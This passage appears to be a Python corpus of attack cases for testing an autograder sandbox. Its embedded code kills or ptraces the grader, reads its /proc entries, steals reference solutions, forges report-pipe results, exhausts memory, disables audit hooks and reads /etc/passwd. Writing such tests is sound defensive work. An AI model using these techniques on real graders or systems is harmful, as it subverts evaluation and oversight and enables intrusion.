"""reach_workers, reach_grader, memory, silence_the_witness, outlive and escape cases.

Unless said otherwise both modules hold correct code and the attack runs once at the end of
compgraph.py, wrapped so that a refusal changes nothing the functions return.
"""
from promises import (ALONE, BREACH, CHEAT, COMPILED, HOOK, IMPORTS, IPC, LANDLOCK, LIMITS, MEMCG,
                      NOFOOL, PIDNS, PIPE, PRIVATE, QUOTA, REPORT, SECCOMP, SECCOMP_NS, STAGING, STUDENT,
                      THREADS, UID, UNSEEN)

CASES = []


def attack(name, cls, language, status, summary, code, why, lo=0, hi=20, module='compgraph'):
    other = 'calculus' if module == 'compgraph' else 'compgraph'
    CASES.append(dict(name=name, cls=cls, language=language, status=status, min=lo, max=hi,
                      summary=summary, why=why, **{module: {'role': 'honest', 'attack': code},
                                                   other: {'role': 'honest'}}))


def cheat(name, cls, language, status, summary, code, why):
    """compgraph.py correct; calculus.py holds no correct code and answers only with what it steals."""
    CASES.append(dict(name=name, cls=cls, language=language, status=status, min=0, max=14,
                      summary=summary, why=why + '; ' + CHEAT + '.',
                      compgraph={'role': 'honest'}, calculus={'role': 'cheat', 'attack': code}))


KIT = '''
_PB_REL = ('solutions/hw2_compgraph/calculus.py', 'solutions/hw2_compgraph/solution/calculus.py',
           'solutions/hw2_compgraph/reference/calculus.py', 'solutions/hw2_compgraph/src/calculus.py',
           'assignments/hw2_compgraph/solution/calculus.py', 'assignments/hw2_compgraph/reference/calculus.py',
           'assignments/hw2_compgraph/calculus.py', 'examples/hw2_compgraph/correct/calculus.py',
           'examples/hw2_compgraph/reference/calculus.py', 'examples/hw2_compgraph/calculus.py')


def _pb_is_solution(data):
    """A calculus.py with real code: not the starter, not one of this corpus's own files."""
    return (isinstance(data, (bytes, bytearray)) and b'def numerical_jacobian' in data
            and b'NotImplementedError' not in data and b'probe_b' not in data)


def _pb_kit_roots():
    """Where the kit may be: around the grader package, above our folder, the usual places."""
    roots = []
    try:
        import grader
        roots.append(_pb_os.path.dirname(_pb_os.path.dirname(_pb_os.path.abspath(grader.__file__))))
    except BaseException:
        pass
    p = _PB_DIR
    for _ in range(10):
        p = _pb_os.path.dirname(p)
        roots.append(p)
    roots += [_pb_quiet(_pb_os.getcwd), '/work/main', '/work', '/srv', '/opt', '/home', '/root']
    out = []
    for r in roots:
        if isinstance(r, str) and r not in out:
            out.append(r)
    return out


def _pb_try_roots(roots):
    for root in roots:
        for rel in _PB_REL:
            data = _pb_quiet(_pb_read, _pb_os.path.join(root, rel))
            if _pb_is_solution(data):
                return data
    return None
'''

# =============================================================================== reach_workers
attack('rw01_signals', 'reach_workers', 'python', ['sandbox'],
       'Signals with os.kill/os.killpg/signal.pidfd_send_signal: harmless probes (0, SIGCONT) to the '
       'parent and pid 1, then SIGKILL to every sibling whose command line names the grader.',
       '''
def _pb_attack():
    import signal
    if not _pb_once('rw01'):  # seccomp may kill this: once per submission
        return
    ppid = _pb_os.getppid()
    _pb_quiet(_pb_os.kill, ppid, 0)
    _pb_quiet(_pb_os.kill, ppid, signal.SIGCONT)
    _pb_quiet(lambda: _pb_os.killpg(_pb_os.getpgid(ppid), 0))
    _pb_quiet(_pb_os.kill, 1, 0)
    _pb_quiet(lambda: signal.pidfd_send_signal(_pb_os.pidfd_open(ppid), 0))
    pids = _pb_quiet(_pb_grader_pids)
    for pid in (pids if isinstance(pids, list) else []):
        _pb_quiet(_pb_os.kill, pid, signal.SIGKILL)


_pb_quiet(_pb_attack)
''',
       'os.kill is refused by the hook and reported; seccomp kills signals to others behind it. ' + HOOK
       + '; ' + PIPE + '; ' + SECCOMP + '; ' + PIDNS + '.')

attack('rw02_signals_native', 'reach_workers', 'native', ['sandbox'],
       'Raw kill(62), tgkill(234) and pidfd_open(434) on the parent after emptying the audit hook list.',
       '''
def _pb_attack():
    _pb_silence()
    if not _pb_once('rw02'):
        return
    ppid = _pb_os.getppid()
    r, _ = _pb_syscall(62, ppid, 0)             # kill(ppid, 0)
    if r == 0:
        _pb_breach('kill(%d, 0) reached another process' % ppid)
    r, _ = _pb_syscall(234, ppid, ppid, 0)      # tgkill(ppid, ppid, 0)
    if r == 0:
        _pb_breach('tgkill(%d) reached another process' % ppid)
    r, _ = _pb_syscall(434, ppid, 0)            # pidfd_open(ppid, 0)
    if r >= 0:
        _pb_syscall(424, r, 0, None, 0)         # pidfd_send_signal(fd, 0)
        _pb_os.close(r)
        _pb_breach('pidfd_open(%d) allowed' % ppid)


_pb_quiet(_pb_attack)
''',
       'seccomp kills on signals to any process but itself and on pidfds (SIGSYS: sandbox); a surviving '
       'hook refuses ctypes (sandbox). ' + SECCOMP + '; ' + HOOK + '; ' + BREACH + '.')

attack('rw03_sched_prio', 'reach_workers', 'python', ['sandbox'],
       'Scheduling, priority, affinity and rlimits of the parent set to their current values (harmless '
       'if they succeed: os.setpriority, os.sched_setaffinity, os.sched_setscheduler, resource.prlimit), '
       'then nice 19 and CPU 0 for siblings whose command line names the grader.',
       '''
def _pb_attack():
    import resource
    if not _pb_once('rw03'):
        return
    ppid = _pb_os.getppid()

    def same_nice():
        _pb_os.setpriority(_pb_os.PRIO_PROCESS, ppid, _pb_os.getpriority(_pb_os.PRIO_PROCESS, ppid))
        return True

    def same_affinity():
        _pb_os.sched_setaffinity(ppid, _pb_os.sched_getaffinity(ppid))
        return True

    def same_policy():
        _pb_os.sched_setscheduler(ppid, _pb_os.sched_getscheduler(ppid), _pb_os.sched_getparam(ppid))
        return True

    def same_limit():
        resource.prlimit(ppid, resource.RLIMIT_NOFILE, resource.prlimit(ppid, resource.RLIMIT_NOFILE))
        return True
    for step in (same_nice, same_affinity, same_policy, same_limit):
        if _pb_quiet(step) is True:
            _pb_breach('%s on process %d' % (step.__name__, ppid))
    pids = _pb_quiet(_pb_grader_pids)
    for pid in (pids if isinstance(pids, list) else []):
        _pb_quiet(_pb_os.setpriority, _pb_os.PRIO_PROCESS, pid, 19)
        _pb_quiet(_pb_os.sched_setaffinity, pid, {0})


_pb_quiet(_pb_attack)
''',
       'os.setpriority on another process raises no audit event but seccomp kills it (SIGSYS: sandbox). '
       + SECCOMP_NS + ' (and the PID namespace hides siblings); ' + PIDNS + '; ' + BREACH + '.')

attack('rw04_ptrace_mem_native', 'reach_workers', 'native', ['sandbox'],
       'ptrace(PTRACE_ATTACH) (101), process_vm_readv (310) and /proc/<ppid>/mem on the parent, after '
       'emptying the audit hook list; detaches at once if attached.',
       '''
def _pb_attack():
    _pb_silence()
    if not _pb_once('rw04'):
        return
    ctypes, libc = _pb_libc()
    ppid = _pb_os.getppid()
    r, _ = _pb_syscall(101, 16, ppid, 0, 0)     # ptrace(PTRACE_ATTACH, ppid)
    if r == 0:
        _pb_syscall(101, 17, ppid, 0, 0)        # PTRACE_DETACH at once
        _pb_breach('ptrace attached to %d' % ppid)

    class Iov(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(8)
    local = Iov(ctypes.cast(buf, ctypes.c_void_p), 8)
    remote = Iov(ctypes.c_void_p(id(None)), 8)  # same binary, likely the same address
    r, _ = _pb_syscall(310, ppid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if r > 0:
        _pb_breach('process_vm_readv read %d bytes of %d' % (r, ppid))

    def mem():
        fd = _pb_os.open('/proc/%d/mem' % ppid, _pb_os.O_RDONLY)
        try:
            return _pb_os.pread(fd, 8, id(None))
        finally:
            _pb_os.close(fd)
    got = _pb_quiet(mem)
    if isinstance(got, bytes) and got:
        _pb_breach('read /proc/%d/mem' % ppid)


_pb_quiet(_pb_attack)
''',
       'seccomp kills on ptrace and other processes\' memory (SIGSYS: sandbox); a surviving hook refuses '
       'ctypes (sandbox). ' + SECCOMP + '; ' + BREACH + '.')

attack('rw05_sibling_folder', 'reach_workers', 'python', ['sandbox'],
       'Find sibling workers\' folders (listing the folder around its own, /tmp, /var/tmp, /dev/shm), '
       'then for each one under those roots: chmod to its current mode, write a 1 MB file into it, '
       'flock one of its files, rename it away and back.',
       '''
def _pb_attack():
    import fcntl
    import stat
    import time
    me = _pb_os.path.realpath(_PB_DIR)
    parent = _pb_os.path.dirname(me)
    found = set()
    for base in (parent, _pb_os.path.dirname(parent), '/tmp', '/var/tmp', '/dev/shm'):
        names = _pb_quiet(_pb_os.listdir, base)
        for n in (names if isinstance(names, list) else []):
            p = _pb_os.path.join(base, n)
            if _pb_os.path.isdir(p) and _pb_os.path.realpath(p) != me:
                found.add(p)
                sub = _pb_quiet(_pb_os.listdir, p)  # one level deeper: the grader's per-run folder
                for m in (sub if isinstance(sub, list) else []):
                    q = _pb_os.path.join(p, m)
                    if _pb_os.path.isdir(q) and _pb_os.path.realpath(q) != me:
                        found.add(q)
    for s in sorted(found):
        if not _pb_tmp_ok(s) or not (_pb_os.path.exists(_pb_os.path.join(s, 'compgraph.py')) or 'victim' in s):
            continue
        _pb_quiet(lambda: _pb_os.chmod(s, stat.S_IMODE(_pb_os.stat(s).st_mode)))

        def fill(s=s):
            with open(_pb_os.path.join(s, 'probe_b_rw05_fill.bin'), 'wb') as fh:
                fh.write(b'\\0' * (1 << 20))
        _pb_quiet(fill)

        def lock(s=s):
            fd = _pb_os.open(_pb_os.path.join(s, 'compgraph.py'), _pb_os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            _PB_KEEP.append(fd)
        _pb_quiet(lock)

        def move(s=s):
            _pb_os.rename(s, s + '.probe_b')
            time.sleep(0.2)
            _pb_os.rename(s + '.probe_b', s)
        _pb_quiet(move)


_pb_quiet(_pb_attack)
''',
       'listing the folder around its own is reading outside its folder: refused and reported. ' + HOOK
       + '; ' + PIPE + '; ' + PRIVATE + '.')

attack('rw06_sibling_folder_native', 'reach_workers', 'native', ['ok', 'sandbox'],
       'Raw openat/getdents64 of the folder around its own after emptying the audit hook list; any '
       'sibling worker folder found is chmod-ed to its current mode (fchmodat), flocked (73) and renamed '
       'away and back (renameat2 RENAME_NOREPLACE).',
       '''
def _pb_attack():
    import struct
    _pb_silence()
    ctypes, libc = _pb_libc()
    at_fdcwd = -100
    me = _pb_os.path.realpath(_PB_DIR)
    parent = _pb_os.path.dirname(me)
    fd, _ = _pb_syscall(257, at_fdcwd, ctypes.c_char_p(parent.encode()), 0o200000 | 0o2000000, 0)
    if fd < 0:
        return
    names = []
    buf = ctypes.create_string_buffer(65536)
    try:
        for _ in range(64):
            n, _ = _pb_syscall(217, fd, buf, 65536)  # getdents64
            if n <= 0:
                break
            raw, off = buf.raw[:n], 0
            while off < n:
                reclen = struct.unpack_from('<H', raw, off + 16)[0]
                names.append(raw[off + 19:off + reclen].split(b'\\0', 1)[0])
                off += reclen
    finally:
        _pb_os.close(fd)
    found = []
    for name in names:
        if name in (b'.', b'..'):
            continue
        path = _pb_os.path.join(parent.encode(), name)
        if _pb_os.path.realpath(path) == me.encode() or not _pb_os.path.exists(path + b'/compgraph.py'):
            continue
        found.append(path)
        if not _pb_tmp_ok(path.decode(errors='replace')):
            continue
        mode = _pb_os.stat(path).st_mode & 0o7777
        _pb_syscall(268, at_fdcwd, ctypes.c_char_p(path), mode)          # fchmodat: its current mode
        f, _ = _pb_syscall(257, at_fdcwd, ctypes.c_char_p(path + b'/compgraph.py'), 0, 0)
        if f >= 0:
            _pb_syscall(73, f, 2 | 4)                                    # flock LOCK_EX | LOCK_NB
            _PB_KEEP.append(f)
        away = path + b'.probe_b'
        r, _ = _pb_syscall(316, at_fdcwd, ctypes.c_char_p(path), at_fdcwd, ctypes.c_char_p(away), 1)
        if r == 0:
            _pb_syscall(316, at_fdcwd, ctypes.c_char_p(away), at_fdcwd, ctypes.c_char_p(path), 1)
    if found:
        _pb_breach('sibling folders are visible: %r' % found[:3])


_pb_quiet(_pb_attack)
''',
       'with the hook emptied Landlock refuses the listing unseen (ok); a surviving hook refuses ctypes '
       '(sandbox); other workers\' folders are not there at all. ' + PRIVATE + '; ' + LANDLOCK + '; '
       + UNSEEN + '; ' + BREACH + '.')

attack('rw07_thread_flood', 'reach_workers', 'python', ['ok'],
       'Up to 512 threads (256 KB stacks) held 1.5 s at import, to exhaust a process limit shared with '
       'siblings; threads are allowed.',
       '''
def _pb_attack():
    import threading
    import time
    done = threading.Event()
    old = threading.stack_size()
    threads = []
    try:
        threading.stack_size(256 * 1024)
        for _ in range(512):
            t = threading.Thread(target=done.wait, args=(3.0,), daemon=True)
            t.start()
            threads.append(t)
    except BaseException:
        pass
    finally:
        _pb_quiet(threading.stack_size, old)
    time.sleep(1.5)
    done.set()
    for t in threads:
        t.join(1.0)


_pb_quiet(_pb_attack)
''',
       THREADS + '; a failed thread start is its own business, so the row stays ok with full marks. '
       + LIMITS + '.', lo=20)

attack('rw08_realtime_self', 'reach_workers', 'python', ['ok'],
       'Ask for SCHED_FIFO and nice -10 for itself (to starve siblings), then spin 0.5 s pinned to one '
       'CPU; a granted real-time policy is undone at once and reported as a breach.',
       '''
def _pb_attack():
    import time
    try:
        _pb_os.sched_setscheduler(0, _pb_os.SCHED_FIFO, _pb_os.sched_param(1))
        granted = True
    except BaseException:
        granted = False
    if granted:
        _pb_quiet(_pb_os.sched_setscheduler, 0, _pb_os.SCHED_OTHER, _pb_os.sched_param(0))
        _pb_breach('SCHED_FIFO granted to a worker')
    before = _pb_os.getpriority(_pb_os.PRIO_PROCESS, 0)
    _pb_quiet(_pb_os.setpriority, _pb_os.PRIO_PROCESS, 0, -10)
    if _pb_os.getpriority(_pb_os.PRIO_PROCESS, 0) < min(before, 0):
        _pb_breach('a negative nice value granted to a worker')
    cpus = _pb_os.sched_getaffinity(0)
    _pb_quiet(_pb_os.sched_setaffinity, 0, {min(cpus)})
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        pass
    _pb_quiet(_pb_os.sched_setaffinity, 0, cpus)


_pb_quiet(_pb_attack)
''',
       'changing its own scheduling is allowed and fails for lack of privilege, with nothing refused: ok '
       'and full marks. ' + UID + '; ' + SECCOMP_NS + '; ' + BREACH + '.', lo=20)

# =============================================================================== reach_grader
cheat('rg01_walk_up', 'reach_grader', 'python', ['sandbox'],
      'Walk up from its folder, from grader.__file__ and the usual places, looking for the reference '
      'calculus.py (solutions/hw2_compgraph/... and a bounded os.walk); uses it if found.',
      KIT + '''

def _pb_steal():
    roots = _pb_kit_roots()
    data = _pb_try_roots(roots)
    if data:
        return _pb_use(data)
    seen = 0
    for root in roots:
        try:
            for dirpath, dirnames, filenames in _pb_os.walk(root):
                seen += len(filenames) + len(dirnames)
                dirnames[:] = [d for d in sorted(dirnames) if d not in ('.git', 'proc', 'sys', 'dev', 'node_modules')]
                if seen > 20000 or dirpath.count('/') - root.count('/') >= 5:
                    dirnames[:] = []
                if 'calculus.py' in filenames and _pb_os.path.realpath(dirpath) != _pb_os.path.realpath(_PB_DIR):
                    data = _pb_quiet(_pb_read, _pb_os.path.join(dirpath, 'calculus.py'))
                    if _pb_is_solution(data):
                        return _pb_use(data)
        except BaseException:
            pass
        if seen > 20000:
            break
    return False


_pb_quiet(_pb_steal)
''',
      'reading or listing outside its submission and the Python installation is refused and reported. '
      + HOOK + '; ' + PIPE + '; ' + LANDLOCK)

cheat('rg02_proc_ppid', 'reach_grader', 'python', ['sandbox'],
      'Read /proc/<ppid>/{cmdline,environ,maps,status}, readlink its cwd, root and open descriptors, and '
      'look for the reference calculus.py through them (/proc/<ppid>/cwd/solutions/..., paths in its '
      'arguments, files it holds open).',
      KIT + '''

def _pb_steal():
    ppid = _pb_os.getppid()
    info = {n: _pb_quiet(_pb_read, '/proc/%d/%s' % (ppid, n)) for n in ('cmdline', 'environ', 'maps', 'status')}
    roots = []
    for link in ('cwd', 'root'):
        target = _pb_quiet(_pb_os.readlink, '/proc/%d/%s' % (ppid, link))
        if isinstance(target, str):
            roots.append(target)
    roots += ['/proc/%d/cwd' % ppid, '/proc/%d/root/work/main' % ppid, '/proc/1/cwd']
    if isinstance(info['cmdline'], bytes):
        for arg in info['cmdline'].split(b'\\0'):
            a = arg.decode('utf-8', 'replace')
            if a.startswith('/'):
                roots.append(a if _pb_os.path.isdir(a) else _pb_os.path.dirname(a))
    for fd in range(256):
        target = _pb_quiet(_pb_os.readlink, '/proc/%d/fd/%d' % (ppid, fd))
        if isinstance(target, str) and target.startswith('/'):
            data = _pb_quiet(_pb_read, '/proc/%d/fd/%d' % (ppid, fd))
            if _pb_is_solution(data):
                return _pb_use(data)
            roots.append(_pb_os.path.dirname(target))
    data = _pb_try_roots(roots + _pb_kit_roots())
    return _pb_use(data) if data else False


_pb_quiet(_pb_steal)
''',
      'the grader\'s /proc entries are outside its folder (refused and reported), and its /proc shows '
      'only its own namespace. ' + HOOK + '; ' + PIPE + '; ' + PIDNS)

cheat('rg03_inherited_fds', 'reach_grader', 'python', ['ok', 'sandbox'],
      'Look through inherited descriptors 3..1023 (os.fstat, os.readlink of /proc/self/fd and os.pread '
      'raise no audit event): regular files are read in place, directories are searched with dir_fd= '
      'for the reference calculus.py.',
      KIT + '''

def _pb_steal():
    import stat
    for fd in range(3, 1024):
        try:
            st = _pb_os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISREG(st.st_mode):
            data = _pb_quiet(_pb_os.pread, fd, 1 << 20, 0)
            if _pb_is_solution(data):
                return _pb_use(data)
        elif stat.S_ISDIR(st.st_mode):
            for rel in _PB_REL + ('calculus.py', 'hw2_compgraph/calculus.py'):
                def grab(rel=rel, fd=fd):
                    f = _pb_os.open(rel, _pb_os.O_RDONLY, dir_fd=fd)
                    try:
                        return _pb_os.read(f, 1 << 20)
                    finally:
                        _pb_os.close(f)
                data = _pb_quiet(grab)
                if _pb_is_solution(data):
                    return _pb_use(data)
    return False


_pb_quiet(_pb_steal)
''',
      'if nothing of the grader\'s is inherited nothing is tried (ok); following dir_fd= outside its '
      'folder is refused and reported (sandbox). ' + NOFOOL + '; ' + LANDLOCK)

attack('rg04_report_pipe', 'reach_grader', 'python', ['sandbox'],
       'Find write-only pipes among its descriptors (the report pipe among them), write a forged line to '
       'each, then try to replace (dup2 of /dev/null) and close them.',
       '''
def _pb_attack():
    import errno
    import stat
    pipes = []
    for fd in range(3, 1024):
        try:
            if not stat.S_ISFIFO(_pb_os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        try:
            _pb_os.read(fd, 0)
        except OSError as exc:
            if exc.errno == errno.EBADF:
                pipes.append(fd)
    for fd in pipes:
        _pb_quiet(_pb_os.write, fd, b'{"probe_b": "forged", "refusals": [], "status": "ok"}\\n')
    if not _pb_once('rg04'):
        return
    for fd in pipes:
        null = _pb_quiet(_pb_os.open, _pb_os.devnull, _pb_os.O_WRONLY)
        if isinstance(null, int):
            _pb_quiet(_pb_os.dup2, null, fd)
        _pb_quiet(_pb_os.close, fd)


_pb_quiet(_pb_attack)
''',
       'a forged line is "anything unexpected on the report pipe", and replacing or closing it is '
       'killed by seccomp. ' + PIPE + '; ' + REPORT + '; ' + SECCOMP + '.')

attack('rg05_staging_output', 'reach_grader', 'python', ['sandbox'],
       'Look for the grader\'s staging and output folders (around the kit, /tmp, paths in GRADER-ish '
       'environment variables), read anything named like a key, and drop a forged signed result '
       '(only where the path is under /tmp, /var/tmp or /dev/shm).',
       KIT + '''

def _pb_attack():
    import json
    forged = json.dumps({'total': 20.0, 'status': 'ok', 'signature': '0' * 64}).encode()
    roots = _pb_kit_roots()[:4] + ['/tmp', '/var/tmp', '/dev/shm']
    roots += [v for k, v in _pb_os.environ.items() if 'GRADER' in k.upper() and v.startswith('/')]
    names = ('out', 'output', 'outputs', 'results', 'staging', '.staging', 'stage', 'build', 'grading',
             'runs', '.grader', '.resume')
    for root in roots:
        _pb_quiet(_pb_os.listdir, root)
        for n in names:
            d = _pb_os.path.join(root, n)
            listing = _pb_quiet(_pb_os.listdir, d)
            for f in (listing if isinstance(listing, list) else [])[:200]:
                if 'key' in f.lower():
                    _pb_quiet(_pb_read, _pb_os.path.join(d, f), 4096)
            if _pb_tmp_ok(d):
                def forge(d=d):
                    with open(_pb_os.path.join(d, 'probe_b_forged_result.json'), 'wb') as fh:
                        fh.write(forged)
                _pb_quiet(forge)


_pb_quiet(_pb_attack)
''',
       'every listing outside its folder is refused and reported. ' + STAGING + '; ' + HOOK + '; '
       + PIPE + '.')

cheat('rg06_grader_package', 'reach_grader', 'python', ['sandbox'],
      'Mine the loaded grader modules\' globals and the grader package\'s source for paths naming '
      'solutions, hidden tests or staging, and read the reference calculus.py from them.',
      KIT + '''

def _pb_steal():
    import re
    paths = set()
    for name, mod in list(_pb_sys.modules.items()):
        if not name.startswith('grader') or mod is None:
            continue
        for value in list(vars(mod).values()):
            if hasattr(value, '__fspath__'):
                value = _pb_quiet(_pb_os.fspath, value)
            if isinstance(value, str) and '/' in value and len(value) < 4096:
                paths.add(value)
    kit = None
    try:
        import grader
        gdir = _pb_os.path.dirname(_pb_os.path.abspath(grader.__file__))
        kit = _pb_os.path.dirname(gdir)
        for dirpath, dirnames, filenames in _pb_os.walk(gdir):
            for f in filenames:
                if f.endswith('.py'):
                    text = _pb_quiet(_pb_read, _pb_os.path.join(dirpath, f))
                    if isinstance(text, bytes):
                        for m in re.findall(rb"['\\"]([\\w./-]*(?:solution|hidden|staging|reference)[\\w./-]*)['\\"]", text):
                            paths.add(m.decode('utf-8', 'replace'))
    except BaseException:
        pass
    for p in sorted(paths):
        for cand in (p, _pb_os.path.join(kit or '/', p)):
            for sub in ('', 'calculus.py', 'hw2_compgraph/calculus.py', 'hw2_compgraph/solution/calculus.py'):
                data = _pb_quiet(_pb_read, _pb_os.path.join(cand, sub) if sub else cand)
                if _pb_is_solution(data):
                    return _pb_use(data)
    data = _pb_try_roots(_pb_kit_roots()[:2])
    return _pb_use(data) if data else False


_pb_quiet(_pb_steal)
''',
      'the reference solutions are outside its submission and the Python installation: refused and '
      'reported. ' + HOOK + '; ' + PIPE + '; ' + LANDLOCK)

attack('rg07_grader_process_native', 'reach_grader', 'native', ['sandbox'],
       'prlimit64 (302) on the parent: read its RLIMIT_NOFILE and set it to the same value (harmless if it '
       'works), then pidfd_open (434) on it, after emptying the audit hook list.',
       '''
def _pb_attack():
    _pb_silence()
    if not _pb_once('rg07'):
        return
    ctypes, libc = _pb_libc()
    ppid = _pb_os.getppid()

    class Rlimit(ctypes.Structure):
        _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]
    old = Rlimit()
    r, _ = _pb_syscall(302, ppid, 7, None, ctypes.byref(old))    # prlimit64(ppid, RLIMIT_NOFILE, NULL, &old)
    if r == 0:
        r, _ = _pb_syscall(302, ppid, 7, ctypes.byref(old), None)
        if r == 0:
            _pb_breach('prlimit64 changed the limits of process %d' % ppid)
    r, _ = _pb_syscall(434, ppid, 0)                              # pidfd_open(ppid)
    if r >= 0:
        _pb_os.close(r)
        _pb_breach('pidfd_open(%d) allowed' % ppid)


_pb_quiet(_pb_attack)
''',
       'pidfd_open is killed by seccomp (SIGSYS: sandbox) whatever prlimit64 did; a surviving hook '
       'refuses ctypes (sandbox). ' + SECCOMP + '; ' + BREACH + '.')

# =============================================================================== memory
attack('mem01_memfd', 'memory', 'python', ['memory', 'sandbox'],
       'os.memfd_create (no audit event) filled with os.write, 64 MB at a time, to 512 MB over the '
       'address-space limit (capped at 4.5 GB); never mapped, so the address space does not grow.',
       '''
def _pb_attack():
    if not _pb_once('mem01'):
        return
    target = _pb_mem_target()
    fd = _pb_os.memfd_create('probe_b_mem01', 0)
    try:
        chunk = b'\\x5a' * (64 << 20)
        done = 0
        while done < target:
            done += _pb_os.write(fd, chunk)
    finally:
        _pb_os.close(fd)


_pb_quiet(_pb_attack)
''',
       'the memory cgroup counts memfd and kills (memory); where there is no cgroup seccomp kills memfd '
       '(sandbox). ' + MEMCG + '; ' + SECCOMP_NS + '.')

attack('mem02_own_folder_files', 'memory', 'python', ['ok', 'memory'],
       '60 MB files written into its own folder up to 256 MB over the address-space limit (at most 2 GB '
       'and 4 s), held 0.3 s, then deleted: memory if the folder is a tmpfs.',
       '''
def _pb_attack():
    import time
    if not _pb_once('mem02'):
        return
    target = _pb_mem_target(cap=2 << 30) - (256 << 20)
    chunk = b'\\xa5' * (60 << 20)
    paths = []
    end = time.monotonic() + 4.0
    try:
        done = 0
        while done < target and time.monotonic() < end:
            path = _pb_os.path.join(_PB_DIR, 'probe_b_mem02_%03d.bin' % len(paths))
            paths.append(path)
            with open(path, 'wb') as fh:
                fh.write(chunk)
            done += len(chunk)
        time.sleep(0.3)
    finally:
        for path in paths:
            _pb_quiet(_pb_os.remove, path)


_pb_quiet(_pb_attack)
''',
       'writing in its own folder is allowed and has no quota of its own (ok); if that folder is a '
       'tmpfs the cgroup counts it (memory). ' + QUOTA + '; ' + MEMCG + '.')

attack('mem03_sysv_shm_chunks_native', 'memory', 'native', ['memory', 'sandbox'],
       'System V segments of 64 MB (keys 0x70628000+), each attached, filled, detached and kept, to 512 MB '
       'over the address-space limit (capped at 3 GB, 4 s), after emptying the audit hook list; all '
       'removed (IPC_RMID) at the end.',
       '''
def _pb_attack():
    import time
    _pb_silence()
    if not _pb_once('mem03'):
        return
    ctypes, libc = _pb_libc()
    libc.shmat.restype = ctypes.c_void_p
    target = _pb_mem_target(cap=3 << 30)
    chunk = 64 << 20
    base = 0x70628000 + (_pb_os.getpid() % 256) * 64
    ids = []
    end = time.monotonic() + 4.0
    try:
        while len(ids) * chunk < target and time.monotonic() < end and len(ids) < 64:
            shmid = libc.shmget(ctypes.c_int(base + len(ids)), ctypes.c_size_t(chunk), ctypes.c_int(0o3600))
            if shmid < 0:
                break
            ids.append(shmid)
            addr = libc.shmat(ctypes.c_int(shmid), None, ctypes.c_int(0))
            if not addr or addr == ctypes.c_void_p(-1).value:
                break
            ctypes.memset(ctypes.c_void_p(addr), 0x5A, chunk)
            libc.shmdt(ctypes.c_void_p(addr))
        time.sleep(0.2)
    finally:
        for shmid in ids:
            libc.shmctl(ctypes.c_int(shmid), ctypes.c_int(0), None)  # IPC_RMID


_pb_quiet(_pb_attack)
''',
       'shared memory is counted by the cgroup (memory); without namespaces and cgroup seccomp kills '
       'System V calls, and a surviving hook refuses ctypes (sandbox). ' + MEMCG + '; ' + SECCOMP_NS
       + '; ' + HOOK + '.')

attack('mem04_pipe_buffers', 'memory', 'python', ['ok', 'memory', 'sandbox'],
       'Kernel memory in pipe buffers: as many pipes as the open-file limit allows, each grown to 1 MB '
       '(F_SETPIPE_SZ) and filled without blocking, held 0.3 s.',
       '''
def _pb_attack():
    import fcntl
    import resource
    import time
    soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    n = max(0, min(soft - 64, 2048) // 2)
    blob = b'\\x77' * (1 << 20)
    pipes = []
    end = time.monotonic() + 3.0
    try:
        for _ in range(n):
            r, w = _pb_os.pipe()
            pipes.append((r, w))
            _pb_quiet(fcntl.fcntl, w, 1031, 1 << 20)  # F_SETPIPE_SZ
            _pb_os.set_blocking(w, False)
            try:
                while True:
                    _pb_os.write(w, blob)
            except BlockingIOError:
                pass
            if time.monotonic() > end:
                break
        time.sleep(0.3)
    finally:
        for r, w in pipes:
            _pb_os.close(r)
            _pb_os.close(w)


_pb_quiet(_pb_attack)
''',
       'pipes are not mentioned; the per-user pipe limits keep this small (ok), the cgroup would count '
       'kernel memory (memory), and the hook may refuse fcntl (sandbox). ' + MEMCG + '; ' + LIMITS + '.')

attack('mem05_memfd_fallocate_native', 'memory', 'native', ['memory', 'sandbox'],
       'Raise its own soft limits to the hard ones, then memfd_create (319) and fallocate (285) 256 MB at '
       'a time to 512 MB over the address-space limit (capped at 4.5 GB), after emptying the audit hook '
       'list.',
       '''
def _pb_attack():
    import resource
    import time
    _pb_silence()
    if not _pb_once('mem05'):
        return
    ctypes, libc = _pb_libc()
    target = _pb_mem_target()
    for lim in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
        soft, hard = resource.getrlimit(lim)
        _pb_quiet(resource.setrlimit, lim, (hard, hard))
    fd, _ = _pb_syscall(319, ctypes.c_char_p(b'probe_b_mem05'), 1)  # memfd_create(name, MFD_CLOEXEC)
    if fd < 0:
        return
    try:
        done, step = 0, 256 << 20
        while done < target:
            r, _ = _pb_syscall(285, fd, 0, done, step)  # fallocate(fd, 0, offset, len)
            if r != 0:
                break
            done += step
        time.sleep(0.2)
    finally:
        _pb_os.close(fd)


_pb_quiet(_pb_attack)
''',
       'fallocated memfd pages are counted by the cgroup (memory); without it seccomp kills memfd, and '
       'a surviving hook refuses ctypes (sandbox). ' + MEMCG + '; ' + SECCOMP_NS + '.')

# =============================================================================== silence_the_witness
PASSWD = '''

def _pb_forbidden():
    """The forbidden part: read /etc/passwd, list /, write in /tmp; every error swallowed."""
    data = _pb_quiet(_pb_read, '/etc/passwd', 4096)
    _pb_quiet(_pb_os.listdir, '/')

    def write():
        with open('/tmp/probe_b_silence.txt', 'w') as fh:
            fh.write('x')
    _pb_quiet(write)
    if isinstance(data, bytes) and b'root:' in data:
        _pb_breach('read /etc/passwd')
'''

attack('sil01_rawmem_hooklist', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Empty the interpreter\'s audit-hook list through NumPy raw memory (__array_interface__ over the '
       'interpreter state), then read /etc/passwd, list / and write in /tmp.',
       PASSWD + '''

def _pb_attack():
    _pb_silence()
    _pb_forbidden()


_pb_quiet(_pb_attack)
''',
       'if the hook is gone Landlock refuses unseen (ok); if it survives it refuses and reports '
       '(sandbox); /etc/passwd is never read. ' + UNSEEN + '; ' + LANDLOCK + '; ' + BREACH + '.')

attack('sil02_gc_hook_code', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Find the grader\'s hook functions with gc.get_objects and replace their __code__ with a no-op of '
